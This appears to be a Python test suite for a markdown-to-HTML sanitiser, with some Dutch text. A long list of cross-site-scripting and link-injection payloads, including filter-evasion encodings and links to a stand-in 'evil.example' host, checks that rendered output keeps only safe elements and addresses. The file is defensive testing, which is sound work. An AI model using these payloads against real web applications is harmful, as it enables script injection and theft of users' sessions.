"""Marks become clean HTML: nothing that is typed runs, loads, or leads where it may not."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kmt.kernel.rich_text import left_out, may_link, plain, rich

ELEMENTS = {
    *("p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em", "a"),
    *("blockquote", "code", "hr", "br"),
}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example\\x)",
    "[x](/\\evil.example)",
    "[x](https://user:pass@evil.example/)",
    "[x](http://evil.example/)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    '[x](/hulp/ "onmouseover=alert(1)")',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: data:text/html,x 'titel'",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><img src=x onerror=alert(1)>",
    '```js" onload="alert(1)\nx\n```',
    "# <script>alert(1)</script>",
    "> <iframe srcdoc='<script>alert(1)</script>'>",
    "1. <svg/onload=alert(1)>",
    '<a href="/hulp/" onclick="alert(1)">x</a>',
    "**<b onmouseover=alert(1)>x</b>**",
    "\u202e<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


class Read(HTMLParser):
    """What a browser would see: elements with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Read(html).found:
        assert tag in ELEMENTS, (tag, html)
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(tag, set())
        assert set(attributes) <= allowed, (attributes, html)
        if "href" in attributes:
            address = attributes["href"] or ""
            assert may_link(address), address
            assert re.match(r"https://[^/@\\]+|tel:|mailto:|(?!//)[/#?%\w.]", address), address
            assert attributes.get("rel") == "noreferrer noopener"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_is_typed_can_run(payload: str) -> None:
    for text in (payload, f"Een zin. {payload} Nog een.", f"- {payload}\n- x", f"## {payload}"):
        assert_harmless(str(rich(text)))


def test_there_are_more_than_thirty_attempts_and_the_judge_can_fail() -> None:
    assert len(set(PAYLOADS)) > 30
    for bad in (
        "<script>x</script>",
        "<p onclick=x>",
        "<img src=x>",
        '<a href="javascript:x" rel="noreferrer noopener">x</a>',
        '<a href="/x">x</a>',
    ):
        with pytest.raises(AssertionError):
            assert_harmless(bad)


@given(st.text(alphabet="<>[]()!\"'`#*_-/\\:;&=ab javscriptonl\n\t\x01", max_size=120))
def test_no_heap_of_marks_can_run(text: str) -> None:
    assert_harmless(str(rich(text)))


@pytest.mark.parametrize(
    ("typed", "levels"),
    [
        ("# a\n\n## b\n\n### c", [2, 3, 4]),
        ("## a\n\n## b", [2, 2]),
        ("### a\n\n## b\n\n# c", [2, 2, 2]),
        ("# a\n\n#### b\n\n## c\n\n### d", [2, 3, 3, 4]),
        ("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f", [2, 3, 4, 5, 6, 6]),
        ("a\n=\n\nb\n-", [2, 3]),
    ],
)
def test_the_page_keeps_one_first_heading_and_skips_no_level(typed: str, levels: list[int]) -> None:
    assert [int(one) for one in re.findall(r"<h(\d)>", str(rich(typed)))] == levels


@given(st.lists(st.integers(min_value=1, max_value=6), max_size=12))
def test_no_outline_skips_a_level(typed: list[int]) -> None:
    html = str(rich("\n\n".join(f"{'#' * one} kop" for one in typed)))
    levels = [int(one) for one in re.findall(r"<h(\d)>", html)]
    assert len(levels) == len(typed)
    for before, after in zip([1, *levels], levels, strict=False):
        assert 2 <= after <= before + 1


def test_what_a_writer_uses_comes_on_the_page() -> None:
    html = str(rich("Bel **nu** [112](tel:112).\n\n1. een\n2. twee\n\n> let op\n\n- *x*"))
    for part in ("<strong>nu</strong>", 'href="tel:112"', "<ol>", "<blockquote>", "<em>x</em>"):
        assert part in html


def test_of_a_picture_its_description_stays_and_nothing_is_loaded() -> None:
    html = str(rich("![een kaart](https://elders.example/k.png)"))
    assert "een kaart" in html
    assert "elders" not in html


def test_what_does_not_come_on_the_page_is_named() -> None:
    text = "![x](/k.png) <b>x</b> [y](http://a.nl) [z](https://a.nl) <https://a.nl> <a@b.nl>"
    assert left_out(text) == ("![x](/k.png)", "<b>", "</b>", "http://a.nl")


def test_the_plain_pieces_are_what_a_reader_reads() -> None:
    assert plain("## Kop\n\nEen **zin** met\n[link](/x/).\n\n- punt") == [
        "Kop",
        "Een zin met link.",
        "punt",
    ]
